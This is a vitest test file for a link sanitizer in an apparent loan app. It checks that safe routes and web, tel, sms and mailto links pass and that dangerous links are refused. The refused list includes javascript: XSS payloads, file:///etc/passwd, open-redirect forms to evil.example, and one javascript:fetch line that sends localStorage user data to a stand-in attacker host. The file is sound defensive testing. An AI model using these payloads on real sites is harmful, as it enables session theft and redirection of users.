import { describe, expect, it } from 'vitest';
import { linkField, nullableLinkField } from './api/linkFields';
import { safeLink } from './links';

describe('safeLink', () => {
  it.each([
    ['/event/invite_friend', 'route'],
    ['/repay/ph/studyPage?x=1#y', 'route'],
    ['https://www.directloan.ph/help', 'web'],
    ['tel:+639171234567', 'tel'],
    ['sms:09171234567', 'sms'],
    ['mailto:help@directloan.ph?subject=Hi', 'mailto'],
    ['  https://x.example/  ', 'web'],
  ])('%s is a %s', (link, kind) => {
    expect(safeLink(link)?.kind).toBe(kind);
  });

  it.each([
    'javascript:alert(document.cookie)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    'blob:https://x.example/uuid',
    '//evil.example/path',
    '/\\evil.example',
    // A route that is a script or another site once the harness or Electron strips its slash.
    '/javascript:parent.sessionStorage',
    '/http://other.example/',
    '/a/..//evil.example',
    '\\\\evil.example',
    'https://user:pass@evil.example/',
    'intent://scan/#Intent;scheme=zxing;end',
    'about:blank',
    '',
    'evil.example/path',
    '/\u0000/x',
    'https://x.example/a\u2028b',
  ])('%j is refused', (link) => {
    expect(safeLink(link)).toBeNull();
  });

  it('allows http: only outside production', () => {
    expect(safeLink('http://127.0.0.1:4010/x', { allowHttp: false })).toBeNull();
    expect(safeLink('http://127.0.0.1:4010/x', { allowHttp: true })?.kind).toBe('web');
  });

  it('refuses what is not a string', () => {
    expect(safeLink(undefined)).toBeNull();
    expect(safeLink({ href: 'https://x' })).toBeNull();
  });
});

describe('link fields of server data', () => {
  it('keep safe links and turn unsafe ones into no link, without failing the answer', () => {
    expect(linkField.parse('/event/x')).toBe('/event/x');
    expect(linkField.parse('javascript:fetch("//evil/"+localStorage["dl.user"])')).toBe('');
    expect(nullableLinkField.parse('https://pay.example/o/1')).toBe('https://pay.example/o/1');
    expect(nullableLinkField.parse('javascript:alert(1)')).toBeNull();
    expect(nullableLinkField.parse(null)).toBeNull();
  });
});
